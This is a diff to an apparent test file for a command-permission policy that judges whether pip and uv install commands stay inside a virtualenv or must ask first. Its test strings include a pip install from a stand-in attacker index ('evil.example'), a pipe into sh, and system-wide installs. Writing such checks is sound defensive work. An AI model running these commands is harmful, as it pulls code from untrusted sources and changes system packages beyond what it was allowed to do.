@@ -59,6 +59,8 @@ def test_policy_can_name_each_of_them() -> None:
         # What stands beside it has no network either.
         ("python3 -m venv .venv && .venv/bin/pip install six && .venv/bin/python x.py", ("six",), (), ()),
         (".venv/bin/pip install six; ./run.sh | sh", ("six",), (), ()),
+        ("pip install six && python3 x.py", ("six",), (), ()), ("python3 -m pip install six", ("six",), (), ()),
+        ("pip3 install --break-system-packages six", ("six",), (), ()),
         (".venv/bin/pip install a && .venv/bin/pip install b", ("a", "b"), (), ()),
         ("PIP_INDEX_URL=https://evil.example .venv/bin/pip install six", ("six",), (), ()),
     ],
@@ -105,8 +107,8 @@ def test_an_install_is_contained_and_what_it_needs_is_known(judged, text, named,
         ".venv/bin/pip install six && uv sync", ".venv/bin/pip install six; .venv/bin/pip download x",
         ".venv/bin/pip install six && git push", ".venv/bin/pip install a; .venv/bin/pip install --no-deps b",
         ".venv/bin/pip install six && sudo apt-get install jq", "uv tool install x",
-        # The system's own packages
-        "pip install six", "python3 -m pip install -r requirements.txt", "pip install --user six",
+        # The system's own packages, by what has no folder of its own for those of its user
+        "pip install --user six", "uv pip install --system six", "pip install --root / six",
     ],
 )  # fmt: skip
 def test_everything_else_asks(judged, text: str) -> None:
